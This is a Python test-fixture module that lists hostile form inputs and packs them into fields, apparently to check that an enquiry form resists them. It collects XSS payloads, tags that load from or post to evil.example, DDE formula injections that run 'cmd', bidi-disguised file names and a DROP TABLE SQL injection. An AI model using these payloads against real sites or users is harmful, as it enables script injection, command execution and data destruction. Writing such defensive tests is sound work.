"""What somebody may type who means harm: markup, formulas, letters that hide, words without an end."""

import math

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<body onload=alert(6)>",
    "<iframe src=javascript:alert(7)></iframe>",
    "<a href=javascript:alert(8)>call me</a>",
    "<details open ontoggle=alert(9)>",
    "<input autofocus onfocus=alert(10)>",
    "<math><mtext></table><img src=x onerror=alert(11)>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<link rel=stylesheet href=https://evil.example/b.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/c'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/d><button>Send</button></form>",
    "<object data=https://evil.example/e></object>",
    "<embed src=https://evil.example/f>",
    "<video poster=https://evil.example/g></video>",
    "<img src=//evil.example/h.png>",
    '"><script>alert(12)</script>',
    "'><script>alert(13)</script>",
    '" autofocus onfocus="alert(14)',
    "' onmouseover='alert(15)",
    "--><script>alert(16)</script>",
    "</textarea><script>alert(17)</script>",
    "</title><script>alert(18)</script>",
    "</blockquote></main><h1>Signed out</h1>",
    "]]><script>alert(19)</script>",
    "<scr<script>ipt>alert(20)</scr</script>ipt>",
    "<ScRiPt>alert(21)</sCrIpT>",
    "<script\x09>alert(22)</script>",
    "&lt;script&gt;alert(23)&lt;/script&gt;",
    "&#60;script&#62;alert(24)&#60;/script&#62;",
    "%3Cscript%3Ealert(25)%3C/script%3E",
    "\\u003cscript\\u003ealert(26)",
    "\uff1cscript\uff1ealert(27)\uff1c/script\uff1e",
    "javascript:alert(28)",
    "data:text/html,<script>alert(29)</script>",
    "{{ 7*7 }}{% load static %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "`${alert(30)}`",
    "';alert(31);//",
    "\\';alert(32);//",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/","call")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
)
LETTERS = (
    "\u202egnp.exe",
    "\u2066hidden\u2069 \u2067left",
    "a\u200bb\u200dc\ufeffd",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 8,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 6,
    "'; DROP TABLE enquiries_enquiry; --",
)
ENDLESS = "W" * 10_000
"""No field takes it whole; it is cut to what each takes."""

PAYLOADS = (*SCRIPTS, *FORMULAS, *LETTERS)


def handfuls(longest: int) -> list[str]:
    """Return all payloads, as many together as fit into one field."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) + 1 > longest:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip(" ")
    assert len(found) >= math.ceil(sum(map(len, PAYLOADS)) / longest)
    return found
